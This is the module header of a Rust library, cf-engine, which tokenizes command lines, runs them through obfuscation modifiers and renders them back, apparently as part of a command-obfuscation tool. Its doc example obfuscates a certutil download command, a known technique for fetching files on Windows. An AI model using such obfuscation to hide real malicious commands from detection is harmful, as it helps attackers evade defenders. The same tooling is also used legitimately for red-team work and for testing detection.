//! cf-engine: Tokenizer, renderer, and modifier pipeline for cmdfuscator.
//!
//! A raw command line is split into typed tokens, passed through every
//! enabled modifier in registration order, and rendered back into a
//! command line:
//!
//! ```no_run
//! use std::sync::Arc;
//! use cf_engine::{default_enabled, Obfuscator, Registry};
//! # let variants: Vec<cf_protocol::ProfileVariant> = Vec::new();
//!
//! let obfuscator = Obfuscator::new(Arc::new(Registry::builtin()));
//! let enabled = default_enabled(&variants[0]);
//! let result = obfuscator
//!     .obfuscate_random("certutil -urlcache -f https://example.com out.bin", &variants, &enabled)
//!     .expect("obfuscation failed");
//! println!("{}", result.output);
//! ```

pub mod arguments;
pub mod error;
pub mod modifiers;
pub mod pipeline;
pub mod registry;
pub mod render;
pub mod tokenizer;

pub use arguments::ArgumentTable;
pub use error::{ModifierError, ObfuscateError, TokenizeError};
pub use pipeline::{default_enabled, host_platform, EnabledMap, ObfuscateResult, Obfuscator};
pub use registry::{ApplyContext, Modifier, ModifierSummary, Registry};
pub use render::render;
pub use tokenizer::{tokenize, tokenize_with};
